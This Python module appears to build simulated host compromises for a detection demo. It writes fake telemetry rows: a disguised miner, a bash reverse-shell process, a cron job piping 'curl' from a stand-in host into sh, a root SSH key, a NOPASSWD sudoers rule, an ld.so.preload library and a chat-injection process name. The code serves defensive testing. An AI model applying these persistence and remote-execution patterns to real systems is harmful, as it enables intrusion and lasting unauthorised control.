"""What was done to the compromised hosts of the demo, and which rows give it away?

Addresses are of the documentation ranges (RFC 5737); nothing here names a real tool's infrastructure.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass

from bot.sandbox.fleet.draft import Draft, digest

HOSTILE_NAME = "<!channel> *x* https://evil.example"
"""A process name that would ping and link if any view trusted it."""


@dataclass(frozen=True, slots=True)
class Planted:
    """A fragment of a row that shows an intrusion: the query that shows it, and some of its columns."""

    query: str
    row: Mapping[str, str]


@dataclass(frozen=True, slots=True)
class Intrusion:
    """A compromise: how it changes a host, and what of it the pack shows, sharpest first."""

    commit: Callable[[Draft], None]
    planted: tuple[Planted, ...]


def _miner(draft: Draft) -> None:
    """Through the web application: a deleted miner under a kernel thread's name, its schedule, a reverse shell."""
    draft.settle()
    hour = draft.now - draft.booted - 3600
    web = next(int(row["pid"]) for row in draft.tables["processes"] if row["name"] == "gunicorn")
    miner = draft.spawn(
        "kworker/u8:7-ev",
        "/dev/shm/.cache/kw",
        "[kworker/u8:7-ev]",
        user="webapp",
        cwd="/dev/shm/.cache",
        on_disk=0,
        after_boot_s=hour,
        threads=3,
    )
    draft.connect(miner, "203.0.113.66", 3333)
    hostile = draft.spawn(
        HOSTILE_NAME,
        "/usr/bin/bash",
        f"{HOSTILE_NAME} -i",
        user="webapp",
        parent=web,
        cwd="/dev/shm/.cache",
        after_boot_s=hour - 900,
    )
    for row in draft.tables["processes"]:
        if row["pid"] == str(hostile):
            row["name"] = HOSTILE_NAME
    draft.connect(hostile, "203.0.113.66", 4444)
    draft.file(
        "/dev/shm/.cache/cfg.sh",
        "miner configuration",
        mode="0755",
        uid=draft.uid("webapp"),
        changed=draft.now - 3700,
    )
    draft.cron(
        "/var/spool/cron/crontabs/webapp",
        "*/5 * * * *",
        "curl -fsSL http://203.0.113.66/u.sh | sh >/dev/null 2>&1",
    )
    draft.file(
        "/var/spool/cron/crontabs/webapp",
        "webapp crontab",
        mode="0600",
        uid=draft.uid("webapp"),
        changed=draft.now - 3600,
    )


def _quiet(draft: Draft) -> None:
    """With root, and no process of its own left running: a key, a rule, a unit, a preloaded library."""
    when = draft.now - 5 * 86400
    draft.add(
        "authorized_keys", uid=0, algorithm="ssh-ed25519", key=f"AAAAC3NzaC1lZDI1NTE5AAAAI{digest('a guest', 43)}",
        options="", comment="root@build", key_file="/root/.ssh/authorized_keys",
    )  # fmt: skip
    draft.add(
        "sudoers",
        source="/etc/sudoers.d/91-cloud-agents",
        header="www-data",
        rule_details="ALL=(ALL) NOPASSWD:ALL",
    )
    draft.file("/etc/sudoers.d/91-cloud-agents", "a guest's rule", mode="0440", changed=when)
    draft.unit(
        "systemd-netsync.timer",
        "Network state sync",
        sub="waiting",
        fragment="/etc/systemd/system/systemd-netsync.timer",
    )
    draft.unit(
        "systemd-netsync.service",
        "Network state sync",
        active="inactive",
        sub="dead",
        state="static",
        fragment="/etc/systemd/system/systemd-netsync.service",
    )
    for name in ("systemd-netsync.timer", "systemd-netsync.service"):
        draft.file(f"/etc/systemd/system/{name}", f"a guest's {name}", changed=when)
    library = "/usr/lib/x86_64-linux-gnu/libsystem-notify.so.1"
    draft.file("/etc/ld.so.preload", library, changed=when, size=48)
    draft.file(library, "a guest's library", changed=when)
    for row in draft.tables["processes"]:
        if row["name"] in ("sshd", "cron"):
            draft.add(
                "process_memory_map",
                pid=row["pid"],
                start="0x7f2a14000000",
                end="0x7f2a14006000",
                permissions="r-xp",
                offset=4096,
                device="103:01",
                inode=918299,
                path=library,
                pseudo=0,
            )
    for row in draft.tables["hash"]:
        if row["path"] == "/root/.ssh/authorized_keys":
            row["sha256"] = digest("root keys with a guest's")


INTRUSIONS: Mapping[str, Intrusion] = {
    "miner": Intrusion(
        _miner,
        (
            Planted("processes", {"path": "/dev/shm/.cache/kw", "on_disk": "0"}),
            Planted("processes", {"name": HOSTILE_NAME, "path": "/usr/bin/bash"}),
            Planted("outbound_sockets", {"remote_address": "203.0.113.66", "remote_port": "3333"}),
            Planted("outbound_sockets", {"remote_address": "203.0.113.66", "remote_port": "4444"}),
            Planted("crontab", {"path": "/var/spool/cron/crontabs/webapp", "command": "curl -fsSL http://203.0.113.66/u.sh | sh >/dev/null 2>&1"}),
            Planted("tmp_executables", {"path": "/dev/shm/.cache/cfg.sh"}),
        ),
    ),
    "quiet": Intrusion(
        _quiet,
        (
            Planted("authorized_keys", {"username": "root", "comment": "root@build"}),
            Planted("sudoers", {"source": "/etc/sudoers.d/91-cloud-agents", "header": "www-data"}),
            Planted("ld_so_files", {"path": "/etc/ld.so.preload"}),
            Planted("systemd_units", {"id": "systemd-netsync.timer"}),
            Planted("unit_files", {"path": "/etc/systemd/system/systemd-netsync.service"}),
        ),
    ),
}  # fmt: skip
